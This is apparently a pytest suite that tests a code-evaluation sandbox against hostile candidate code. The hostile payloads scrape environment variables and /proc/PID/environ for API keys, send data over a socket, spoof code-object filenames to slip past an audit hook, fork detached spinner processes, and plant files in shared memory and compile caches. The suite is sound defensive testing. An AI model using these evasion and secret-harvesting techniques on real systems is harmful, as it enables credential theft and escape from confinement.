"""The worker as a sandbox: hostile candidates, past the static guard (obfuscated, or straight to
the worker as here), against the confinements of tools/sandbox.py. For each: the caller gets a
clear verdict, no secret of the caller's appears in it, no file appears outside the worker's
directory, a listener on 127.0.0.1 receives nothing, and no process of the candidate is left."""

import socket
import threading
import time
import uuid
from pathlib import Path

import psutil
import pytest

from kernelwright.core.problem import load_problem
from kernelwright.core.results import EvalResult, EvalSettings, Status
from kernelwright.tools import evaluate
from kernelwright.tools.evaluate import run_worker, sandbox_for
from kernelwright.tools.process import scrub, spawn
from kernelwright.tools.worker import WorkerJob

RELU = Path(__file__).resolve().parents[1] / "adversarial" / "problems" / "relu.py"
SECRETS = {"OPENAI_API_KEY": "sk-test-" + uuid.uuid4().hex, "MY_SECRET_VAR": uuid.uuid4().hex}
MODEL = """
import torch
class ModelNew(torch.nn.Module):
    def forward(self, x):
        return x.clamp(min=0)
"""


@pytest.fixture(scope="module")
def confinement():
    """What this machine enforces (the same probe `kernelwright eval --explain-sandbox` runs)."""
    done = spawn("kernelwright.tools.sandbox:probe", "{}", 60, "kernelwright-probe",
                 sandbox_for(EvalSettings(device="cpu")))
    return done.confinement


@pytest.fixture(params=["cpu", "cuda"])
def kind(request, monkeypatch):
    """The confinement of a CPU worker, or of a CUDA one: no PID namespace (the NVIDIA driver
    refuses one) and its own /proc entry writable. Hostile candidates must fail under both."""
    if request.param == "cuda":
        real = evaluate.sandbox_for
        monkeypatch.setattr(evaluate, "sandbox_for", lambda s, cuda=False: real(s, cuda=True))
    return request.param


def needs(confinement, field, word, what):
    if word not in getattr(confinement, field):
        pytest.skip(f"{what} is not available on this machine: {getattr(confinement, field)}")


@pytest.fixture
def secrets(monkeypatch):
    for key, value in SECRETS.items():
        monkeypatch.setenv(key, value)
    return SECRETS


@pytest.fixture
def listener():
    """A TCP listener on 127.0.0.1 that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            got.append(conn.recv(1024) or b"<connected>")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


def evading(payload: str) -> str:
    """The payload as code that seems to come from another file: the worker's runtime guard
    (an audit hook that refuses what the candidate's own file asks for) lets it through, as it
    would a determined attacker's. Only the sandbox stands in its way."""
    return (f"import types\ntypes.FunctionType(compile({payload!r}, '/opt/elsewhere.py', 'exec'),"
            " {'__builtins__': __builtins__})()\n")


def run(candidate: str, marker: str, **settings) -> EvalResult:
    """Straight to the worker (the static guard would refuse most of these) with the audit hook
    off unless asked (it would refuse most of the rest: here the sandbox beneath is on trial),
    then check what every case must leave behind: no secret in the verdict, no process with the
    marker."""
    problem = load_problem(RELU).shrink(1 << 12)
    settings = EvalSettings(device="cpu", timeout_s=settings.pop("timeout_s", 120),
                            audit_hook=settings.pop("audit_hook", False), **settings)
    box = evaluate.sandbox_for(settings)
    job = WorkerJob(problem_path=problem.path, problem_source=problem.source,
                    size_overrides=problem.size_overrides, candidate_source=candidate,
                    settings=settings, device="cpu", limits=box.limits, cuda_confinement=box.cuda)
    base = EvalResult(status=Status.REJECTED, problem="relu", guard="strict", precision="fp32")
    result = run_worker(job, base)
    verdict = result.model_dump_json()
    assert not any(v in verdict for v in SECRETS.values())
    assert "redacted" not in verdict, verdict[max(0, verdict.find("redacted") - 200):][:300]
    time.sleep(0.3)
    left = [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
    assert not left, f"processes of the candidate survived: {left}"
    return result


def test_secrets_are_not_in_the_workers_environment_nor_readable(secrets, confinement, kind):
    needs(confinement, "files", "Landlock", "Landlock (it hides the caller's /proc/PID/environ)")
    marker = uuid.uuid4().hex
    candidate = evading(f'''
import os
# {marker}
leak = [os.environ.get("OPENAI_API_KEY", ""), os.environ.get("MY_SECRET_VAR", "")]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            leak.append(open(f"/proc/{{pid}}/environ").read())
        except OSError:
            pass
print("LEAK", leak)
raise RuntimeError("LEAK " + repr(leak))
''') + MODEL
    result = run(candidate, marker)
    assert result.status == Status.BUILD_ERROR and "LEAK ['', ''" in result.message


def test_writes_outside_the_workers_directory_are_refused(tmp_path, confinement, kind):
    needs(confinement, "files", "Landlock", "Landlock (write confinement)")
    home = tmp_path / "home"
    home.mkdir()
    outside = Path("/tmp") / f"kw-outside-{uuid.uuid4().hex}"
    marker = uuid.uuid4().hex
    candidate = evading(f'''
import os
# {marker}
open(os.path.expanduser("~/inside.txt"), "w").write("the private directory is fine")
open({str(home / "pwned.txt")!r}, "w").write("x")
''') + MODEL
    result = run(candidate, marker)
    assert result.status == Status.BUILD_ERROR and "Permission denied" in result.message
    assert not (home / "pwned.txt").exists()
    for target in (outside, Path.home() / f"kw-pwned-{marker}.txt"):  # /tmp, the caller's home
        other = candidate.replace(str(home / "pwned.txt"), str(target))
        assert run(other, marker).status == Status.BUILD_ERROR and not target.exists()


def test_no_network_even_through_an_obfuscated_import(listener, confinement, kind):
    needs(confinement, "network", "namespace", "a network namespace (unprivileged user namespaces)")
    port, got = listener
    marker = uuid.uuid4().hex
    candidate = evading(f'''
# {marker}
net = __import__("so" + "cket")
conn = net.create_connection(("127.0.0.1", {port}), timeout=3)
conn.sendall(b"stolen")
''') + MODEL
    result = run(candidate, marker)
    assert result.status == Status.BUILD_ERROR and "unreachable" in result.message.lower()
    time.sleep(0.5)
    assert got == []


def test_unbounded_memory_is_stopped():
    marker = uuid.uuid4().hex
    candidate = f'''
# {marker}
hoard = []
while True:
    hoard.append(bytearray(32 << 20))  # zero-filled: resident at once
''' + MODEL
    result = run(candidate, marker, memory_limit_mb=600)
    assert result.status == Status.CRASHED and result.reason == "memory_limit"
    assert "600 MiB" in result.message


def test_an_unbounded_file_is_stopped():
    marker = uuid.uuid4().hex
    candidate = evading(f'''
# {marker}
with open("big.bin", "wb") as f:
    while True:
        f.write(bytes(1 << 20))
''') + MODEL
    result = run(candidate, marker, file_limit_mb=16)
    # SIGXFSZ kills the worker, or (as PID 1 of its namespace) the write fails with EFBIG
    assert (result.status == Status.CRASHED and "SIGXFSZ" in result.message) or \
        (result.status == Status.BUILD_ERROR and "File too large" in result.message), result.message


def test_forked_spinners_do_not_survive_the_worker(kind):
    marker = uuid.uuid4().hex
    candidate = evading(f'''
import os
for _ in range(3):
    if os.fork() == 0:
        os.setsid()  # out of the worker's process group
        os.execv("/bin/sh", ["sh", "-c", "while :; do :; done", "{marker}"])
raise RuntimeError("forked three spinners")
''') + MODEL
    result = run(candidate, marker)  # run() asserts that no process with the marker is left
    assert result.status == Status.BUILD_ERROR and "three spinners" in result.message


def test_an_orphaned_spinner_does_not_survive_a_worker_that_exits_at_once(kind):
    """The spinner's parent exits at once and so does the worker, before the caller can see
    either: only the sandbox's own bookkeeping (PID namespace, or the keeper) can end it."""
    marker = uuid.uuid4().hex
    candidate = evading(f'''
import os
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid()
        os.execv("/bin/sh", ["sh", "-c", "while :; do :; done", "{marker}"])
    os._exit(0)
os.wait()
os._exit(0)
''') + MODEL
    result = run(candidate, marker)  # run() asserts that no process with the marker is left
    assert result.status == Status.CRASHED, result.message


def test_a_segfault_is_a_verdict():
    marker = uuid.uuid4().hex
    candidate = evading(f"import ctypes\n# {marker}\nctypes.string_at(0)\n") + MODEL
    result = run(candidate, marker)
    assert result.status == Status.CRASHED and "SIGSEGV" in result.message


def test_a_hang_at_import_is_a_timeout():
    marker = uuid.uuid4().hex
    candidate = f"# {marker}\nwhile True:\n    pass\n" + MODEL
    result = run(candidate, marker, timeout_s=15)
    assert result.status == Status.TIMEOUT


def test_the_verdict_says_which_confinements_were_in_force(confinement, kind):
    legit = (RELU.parents[1] / "legit.py").read_text()
    result = run(legit, uuid.uuid4().hex)
    assert result.status == Status.CORRECT
    assert [line.split(":")[0] for line in result.sandbox] == [
        "environment", "files", "network", "processes", "resources"]
    if kind == "cpu":
        assert result.sandbox[2:4] == confinement.lines()[2:4]  # (directories and limits differ)
    elif "namespace" in confinement.network:
        assert "no PID namespace" in result.sandbox[3] and "/proc/" in result.sandbox[1]


def test_scrub_blanks_the_callers_values(secrets):
    text = f"boom {SECRETS['OPENAI_API_KEY']} and {SECRETS['MY_SECRET_VAR']}"
    cleaned = scrub(text, {"PATH": "/usr/bin"})
    assert not any(v in cleaned for v in SECRETS.values())
    assert "[OPENAI_API_KEY redacted]" in cleaned
    assert scrub(text, dict(SECRETS)) == text  # values the worker was given are its own
    assert scrub(f"PATH={SECRETS['MY_SECRET_VAR']}/bin", {"PATH": f"{SECRETS['MY_SECRET_VAR']}/bin"}
                 ) == f"PATH={SECRETS['MY_SECRET_VAR']}/bin"  # part of what it was given


def test_dev_shm_is_not_the_workers_and_nothing_is_left_there(kind):
    """/dev/shm outlives the worker and is RAM the memory watcher does not see: refused by
    Landlock (hook off) and by the runtime guard (hook on); the next candidate finds nothing."""
    marker = uuid.uuid4().hex
    planted = Path("/dev/shm") / f"kw-{marker}"
    candidate = evading(f'''
# {marker}
with open({str(planted)!r}, "wb") as f:
    f.write(bytes(1 << 20))
''') + MODEL
    hooked = run(candidate, marker, audit_hook=True)
    assert hooked.status == Status.REJECTED and hooked.reason == "file_access", hooked.message
    bare = run(candidate, marker)
    assert bare.status == Status.BUILD_ERROR and "Permission denied" in bare.message, bare.message
    assert not planted.exists() and not list(Path("/dev/shm").glob(f"*{marker}*"))
    reader = evading(f'''
import os
# {marker}
if os.path.exists({str(planted)!r}):
    raise RuntimeError("found what an earlier candidate left")
''') + (RELU.parents[1] / "legit.py").read_text()
    assert run(reader, marker).status == Status.CORRECT


def test_compile_caches_are_the_candidates_own_and_go_with_it(kind):
    """A planted artifact in the compile cache (where Triton would load a kernel from) is in the
    candidate's own folder: gone afterwards, never seen by the next candidate."""
    from kernelwright.hardware.calibrate import cache_dir

    marker = uuid.uuid4().hex
    planter = evading(f'''
import os
# {marker}
cache = os.environ["TRITON_CACHE_DIR"]
os.makedirs(os.path.join(cache, "{marker}"), exist_ok=True)
with open(os.path.join(cache, "{marker}", "planted.so"), "wb") as f:
    f.write(b"not a kernel")
print("PLANTED", cache, flush=True)
''') + (RELU.parents[1] / "legit.py").read_text()
    planted = run(planter, marker)
    assert planted.status == Status.CORRECT, planted.message
    where = next(line.split()[1] for line in planted.log_tail.splitlines() if "PLANTED" in line)
    assert not Path(where).exists()
    assert not list(cache_dir().rglob(f"*{marker}*"))
    looker = evading(f'''
import os
# {marker}
for root, dirs, files in os.walk(os.path.dirname(os.environ["TRITON_CACHE_DIR"])):
    if "{marker}" in root or any("{marker}" in f for f in files):
        raise RuntimeError("found what an earlier candidate planted")
print("CACHE", os.environ["TRITON_CACHE_DIR"], flush=True)
''') + (RELU.parents[1] / "legit.py").read_text()
    looked = run(looker, marker)
    assert looked.status == Status.CORRECT, looked.message
    assert next(line.split()[1] for line in looked.log_tail.splitlines() if "CACHE" in line) != where


@pytest.mark.parametrize("call, rule", [
    (f"open({str(RELU)!r}).read()", "file_access"),  # the reference problem, outside its folder
    ("__import__('socket').socket()", "network"),
    ("__import__('ctypes').addressof(__import__('ctypes').c_int(7))", "native_access"),
])
def test_refused_calls_stay_refused_from_code_that_claims_another_file(call, rule):
    """The call is made by a function whose code object says it comes from torch's own
    __init__.py: the runtime guard judges by what is asked (files, sockets) or by the code
    object itself (native access), never by the file name a code object claims."""
    import torch

    marker = uuid.uuid4().hex
    candidate = f'''
import types
# {marker}
def payload():
    return {call}
payload.__code__ = payload.__code__.replace(co_filename={torch.__file__!r})
payload()
''' + MODEL
    result = run(candidate, marker, audit_hook=True)
    assert result.status == Status.REJECTED and result.reason == rule, result.message


def test_a_killed_caller_leaves_no_process_and_no_folder(tmp_path):
    """SIGKILL the `kernelwright eval` caller while its candidate hangs: the judge and the
    candidate's keeper die with their parents (PR_SET_PDEATHSIG) and remove their folders."""
    import os
    import signal
    import subprocess
    import sys

    temp = tmp_path / "tmp"
    temp.mkdir()
    hang = RELU.parents[1] / "hang.py"
    env = dict(os.environ, TMPDIR=str(temp))
    caller = subprocess.Popen([sys.executable, "-m", "kernelwright.cli", "eval", str(RELU), str(hang),
                               "--device", "cpu"], env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    seen: dict[int, psutil.Process] = {}
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        for p in psutil.Process(caller.pid).children(recursive=True):
            seen.setdefault(p.pid, p)
        if len(seen) >= 3 and any(f.name.startswith("kernelwright-candidate") for f in temp.iterdir()):
            break
        time.sleep(0.5)
    assert len(seen) >= 3, f"judge, keeper and worker never all started: {seen}"
    time.sleep(3)  # the worker is in its endless forward now
    caller.send_signal(signal.SIGKILL)
    caller.wait()
    end = time.monotonic() + 15
    while time.monotonic() < end and (any(p.is_running() and p.status() != psutil.STATUS_ZOMBIE
                                          for p in seen.values()) or list(temp.iterdir())):
        time.sleep(0.5)
    alive = [p for p in seen.values() if p.is_running() and p.status() != psutil.STATUS_ZOMBIE]
    assert not alive, f"processes outlived their killed caller: {alive}"
    assert not list(temp.iterdir()), f"folders outlived their killed caller: {list(temp.iterdir())}"


def test_many_small_files_are_stopped_by_the_disk_limit():
    """No single file passes RLIMIT_FSIZE, but together they pass the worker's disk limit (its
    compile caches count too): the caller measures the folder and stops it."""
    marker = uuid.uuid4().hex
    candidate = evading(f'''
import os
# {marker}
n = 0
while True:
    with open(f"part{{n}}.bin", "wb") as f:
        f.write(bytes(1 << 20))
    n += 1
''') + MODEL
    result = run(candidate, marker, file_limit_mb=4, disk_limit_mb=32)
    assert result.status == Status.CRASHED and result.reason == "disk_limit", result.message
    assert "32 MiB" in result.message
